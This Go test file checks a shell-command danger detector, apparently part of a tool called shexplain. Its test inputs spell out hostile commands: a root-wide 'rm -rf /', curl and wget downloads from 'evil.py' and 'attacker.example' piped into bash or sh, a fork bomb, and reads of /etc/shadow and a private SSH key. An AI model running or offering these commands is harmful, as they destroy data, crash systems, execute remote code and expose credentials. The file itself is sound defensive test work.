package danger

import (
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/user/shexplain/internal/tokenizer"
)

// detect tokenizes raw the way the pipeline does and runs Detect.
func detect(raw string) []string {
	return Detect(raw, tokenizer.Tokenize(raw))
}

func TestDetectRootDelete(t *testing.T) {
	tests := []struct {
		name    string
		command string
		match   bool
	}{
		{"classic", "rm -rf /", true},
		{"with sudo in front", "sudo rm -rf /", true},
		{"other tokens present", "cd /tmp ; rm -rf /", true},
		{"separate flags not flagged", "rm -r -f /", false},
		{"no root target", "rm -rf node_modules", false},
		{"rf flag without rm", "ls -rf /", false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			warnings := detect(tt.command)
			found := false
			for _, w := range warnings {
				if w == "The command 'rm -rf /' will delete all files on your system." {
					found = true
				}
			}
			assert.Equal(t, tt.match, found)
		})
	}
}

func TestDetectDownloadExecute(t *testing.T) {
	t.Run("generic and specific script warning", func(t *testing.T) {
		warnings := detect("curl http://x/evil.py | bash")
		assert.Contains(t, warnings, "Downloading and executing a script from the internet can be dangerous.")
		assert.Contains(t, warnings,
			"WARNING: This command downloads a script file (http://x/evil.py) and pipes it to an interpreter. This could execute malicious code!")
	})

	t.Run("suspicious url without script extension", func(t *testing.T) {
		warnings := detect("wget http://attacker.example/payload | sh")
		assert.Contains(t, warnings,
			"WARNING: This command downloads from a suspicious URL (http://attacker.example/payload) and pipes it to an interpreter. This is likely malicious!")
	})

	t.Run("interpreter list covers scripting languages", func(t *testing.T) {
		warnings := detect("curl http://x/install | python3")
		assert.Contains(t, warnings, "Downloading and executing a script from the internet can be dangerous.")
	})

	t.Run("no pipe no warning", func(t *testing.T) {
		warnings := detect("curl http://example.com/file.tar.gz")
		assert.Empty(t, warnings)
	})

	t.Run("pipe without interpreter", func(t *testing.T) {
		warnings := detect("curl http://example.com/data.csv | wc -l")
		assert.Empty(t, warnings)
	})
}

func TestDetectNullRedirect(t *testing.T) {
	warnings := detect("make build > /dev/null")
	assert.Contains(t, warnings, "Redirecting output to /dev/null will hide all output and errors.")

	assert.Empty(t, detect("make build > build.log"))
}

func TestDetectForkBomb(t *testing.T) {
	warnings := Detect(":(){ :|:& };:", tokenizer.Tokenize(":(){ :|:& };:"))
	assert.Contains(t, warnings, "This is a fork bomb and will likely crash your system.")

	assert.Empty(t, detect("echo ':()'"))
}

func TestDetectSensitiveReads(t *testing.T) {
	tests := []struct {
		name    string
		command string
		expect  string
	}{
		{
			name:    "shadow via cat",
			command: "cat /etc/shadow",
			expect:  "Reading sensitive file: /etc/shadow. Contains password hashes for system users (highly sensitive).",
		},
		{
			name:    "passwd via grep",
			command: "grep root /etc/passwd",
			expect:  "Reading sensitive file: /etc/passwd. Contains user account information (less sensitive but still private).",
		},
		{
			name:    "ssh key via less",
			command: "less ~/.ssh/id_rsa",
			expect:  "Reading sensitive file: ~/.ssh/id_rsa. Private SSH key (highly sensitive).",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Contains(t, detect(tt.command), tt.expect)
		})
	}

	t.Run("sensitive path without read command", func(t *testing.T) {
		assert.Empty(t, detect("rm /etc/passwd"))
	})

	t.Run("read command without sensitive path", func(t *testing.T) {
		assert.Empty(t, detect("cat /etc/hosts"))
	})
}

func TestDetectMultipleRulesFire(t *testing.T) {
	warnings := detect("rm -rf / > /dev/null")
	assert.Contains(t, warnings, "The command 'rm -rf /' will delete all files on your system.")
	assert.Contains(t, warnings, "Redirecting output to /dev/null will hide all output and errors.")
	assert.Len(t, warnings, 2)
}
